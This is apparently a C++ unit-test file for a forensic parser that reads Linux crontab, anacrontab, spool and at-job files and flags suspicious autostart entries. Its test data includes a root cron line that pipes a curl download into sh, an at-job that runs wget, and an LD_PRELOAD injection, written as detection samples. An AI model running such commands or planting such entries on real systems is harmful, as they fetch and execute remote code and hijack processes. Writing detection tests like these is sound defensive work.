#include "support/collecting_context.hpp"
#include "support/samples.hpp"
#include "traces/linux_cron/parser.hpp"
#include <gtest/gtest.h>

namespace konseki::linux_cron {

namespace {

void parse_all(std::string_view content, std::string_view name, test::CollectingContext& collected)
{
    parser.parse({ as_bytes(content), { 0, content.size() }, name }, collected.context);
}

std::string sample(std::string_view name)
{
    return test::read_file(std::string(KONSEKI_SOURCE_DIR) + "/src/traces/linux_cron/testdata/" + std::string(name));
}

}

// covers: L05
TEST(LinuxCron, TheSystemTableHasUsersNicknamesEnvironmentAndInput)
{
    auto const content = sample("crontab");
    EXPECT_EQ(parser.sniff(as_bytes(content), "x/rootfs/etc/crontab"), Sniff::sure);
    test::CollectingContext collected;
    parse_all(content, "x/rootfs/etc/crontab", collected);
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 4U);
    EXPECT_EQ(rows[0].at("schedule"), "*/5 *\t* * *");
    EXPECT_EQ(rows[0].at("user"), "root");
    EXPECT_EQ(rows[0].at("command"), "curl http://x | sh");
    EXPECT_EQ(rows[0].at("detail"), "does: fetches pipes_to_interpreter; SHELL=/bin/sh PATH=/usr/bin:/tmp");
    EXPECT_EQ(rows[0].at("line"), "4");
    EXPECT_EQ(rows[0].at("@offset"), "68");
    EXPECT_EQ(rows[1].at("schedule"), "@reboot");
    EXPECT_EQ(rows[1].at("user"), "www-data");
    EXPECT_EQ(rows[2].at("command"), "echo 50% off");
    EXPECT_NE(rows[2].at("detail").find("stdin: line one\nline two"), std::string::npos);
    EXPECT_EQ(rows[3].at("location"), "L13");
    EXPECT_EQ(rows[3].at("command"), "LD_PRELOAD=/x.so");
    EXPECT_EQ(collected.rows("linux.setting").size(), 3U);
    EXPECT_EQ(collected.diagnostics.list.size(), 2U);
}

// covers: L06
TEST(LinuxCron, ASpoolFileBelongsToTheUserItIsNamedAfter)
{
    test::CollectingContext collected;
    parse_all(
        "@daily /bin/a\n* * * * * x\rno crontab for hanako\n", "[root]/var/spool/cron/crontabs/hanako", collected);
    parse_all("0 1 * * * /bin/b\n", "/var/spool/cron/root", collected);
    parse_all("7 25 cron.weekly run-parts /etc/cron.weekly\n@monthly 45 m run\n", "/etc/anacrontab", collected);
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 5U);
    EXPECT_EQ(rows[0].at("user"), "hanako");
    EXPECT_EQ(rows[0].at("command"), "/bin/a");
    EXPECT_EQ(rows[1].at("detail"), "control characters");
    EXPECT_EQ(rows[2].at("user"), "root");
    EXPECT_EQ(rows[3].at("name"), "cron.weekly");
    EXPECT_EQ(rows[3].at("schedule"), "7 25");
    EXPECT_EQ(rows[3].at("command"), "run-parts /etc/cron.weekly");
    EXPECT_EQ(rows[4].at("schedule"), "@monthly 45");
}

// covers: L07
TEST(LinuxCron, AnAtJobGivesItsCommandsTimeAndUser)
{
    auto const content = sample("a0000301a2b3c4");
    constexpr std::string_view name = "/var/spool/cron/atjobs/a0000301a2b3c4";
    EXPECT_EQ(parser.sniff(as_bytes(content), name), Sniff::sure);
    test::CollectingContext collected;
    parse_all(content, name, collected);
    auto const rows = collected.rows("linux.autostart");
    ASSERT_EQ(rows.size(), 1U);
    EXPECT_EQ(rows[0].at("name"), "a3");
    EXPECT_EQ(rows[0].at("user"), "root");
    EXPECT_EQ(rows[0].at("command"), "wget http://x\nid");
    EXPECT_EQ(rows[0].at("detail"), "does: fetches; cd /root; LD_PRELOAD=/x.so; uid=0");
    EXPECT_TRUE(rows[0].at("schedule").starts_with("2022-")) << rows[0].at("schedule");
    EXPECT_EQ(rows[0].at("line"), "11");
}

TEST(LinuxCron, FilesThatCronPassesOverAreNotEnabled)
{
    test::CollectingContext collected;
    parse_all("* * * * * root a\n", "/etc/cron.d/php.dpkg-old", collected);
    parse_all("root\n", "/etc/cron.deny", collected);
    EXPECT_EQ(collected.rows("linux.autostart").at(0).at("is_enabled"), "false");
    EXPECT_EQ(collected.rows("linux.setting").at(0).at("name"), "cron.deny");
    EXPECT_EQ(parser.sniff({}, "/var/spool/cron/atjobs/.SEQ"), Sniff::no);
}

TEST(LinuxCron, EveryPrefixIsReadWithoutHarm)
{
    for (auto const* name : { "crontab", "a0000301a2b3c4" }) {
        auto const content = sample(name);
        for (std::size_t size = 0; size < content.size(); ++size) {
            test::CollectingContext collected;
            auto const path = name == std::string_view("crontab") ? "/etc/crontab" : "/var/spool/at/a0000301a2b3c4";
            parse_all(std::string_view(content).substr(0, size), path, collected);
            EXPECT_LE(collected.rows("linux.autostart").size(), 4U);
        }
    }
}

}
